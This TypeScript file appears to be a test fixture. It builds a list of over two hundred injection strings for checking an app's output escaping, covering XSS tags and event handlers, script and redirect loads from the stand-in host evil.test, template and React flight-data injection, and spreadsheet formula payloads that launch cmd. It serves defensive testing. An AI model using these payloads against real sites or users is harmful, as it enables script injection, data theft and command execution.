/**
 * Attacks on places where text is treated as markup. Each would set `window.__hit` or send a request to another
 * host.
 */
const attacks = [
  "<script>window.__hit=1</script>",
  "<img src=x onerror=window.__hit=1>",
  "<svg onload=window.__hit=1>",
  "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
  "<a href=javascript:window.__hit=1 autofocus onfocus=window.__hit=1>x</a>",
  "<details open ontoggle=window.__hit=1>",
  "<script src=//evil.test/x.js></script>",
  "<link rel=stylesheet href=//evil.test/x.css>",
  "<img src=//evil.test/x.png>",
  "<meta http-equiv=refresh content='0;url=//evil.test/'>",
  "<base href=//evil.test/>",
  "<form action=//evil.test/><input name=x autofocus onfocus=window.__hit=1>",
  "<object data=javascript:window.__hit=1></object>",
  "<video src=x onerror=window.__hit=1></video>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__hit=1>",
];
const breakouts = [
  "",
  '">',
  "'>",
  "</title>",
  "</script>",
  "</style>",
  "--> ",
  "]]>",
  "</textarea></select>",
  "\\u003c/script>",
  "`>",
];

/** Attacks on places where text is treated as something else: addresses, templates, React's own notation, formulas. */
const others = [
  "javascript:window.__hit=1",
  "data:text/html,<script>parent.__hit=1</script>",
  "//evil.test/x",
  "https://evil.test/x.png",
  "{{constructor.constructor('window.__hit=1')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template engine of somebody else's would fill it in.
  "${window.__hit=1}",
  "#{window.__hit=1}",
  "<%= window.__hit=1 %>",
  '" onmouseover="window.__hit=1" autofocus onfocus="window.__hit=1',
  "' onload='window.__hit=1",
  "x onerror=window.__hit=1",
  "';window.__hit=1;//",
  '";window.__hit=1;//',
  "\\';window.__hit=1;//",
  "\u2028window.__hit=1\u2029",
  "</script\u0000><script>window.__hit=1</script>",
  "$L1",
  "$undefined",
  "$@0",
  "$Sreact.fragment",
  '1:"$Sreact.fragment"',
  "\n0:[]\n",
  '"]);window.__hit=1;self.__next_f.push([1,"',
  '{"__html":"<img src=x onerror=window.__hit=1>"}',
  "{name}",
  "{n, plural, other {<b>#</b>}}",
  "<b>{x}</b>",
  "%3Cscript%3Ewindow.__hit=1%3C/script%3E",
  "&lt;script&gt;window.__hit=1&lt;/script&gt;",
  "&#60;img src=x onerror=window.__hit=1&#62;",
  "\u202e<script>1=tih__.wodniw</script>",
  "＜script＞window.__hit=1＜/script＞",
  "<scr<script>ipt>window.__hit=1</script>",
  "<ScRiPt>window.__hit=1</sCrIpT>",
  "<script\n>window.__hit=1</script\t>",
  '=HYPERLINK("http://evil.test/","x")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

/** At least two hundred different texts. */
export const payloads: readonly string[] = [
  ...attacks.flatMap((attack) => breakouts.map((breakout) => `${breakout}${attack}`)),
  ...others,
];
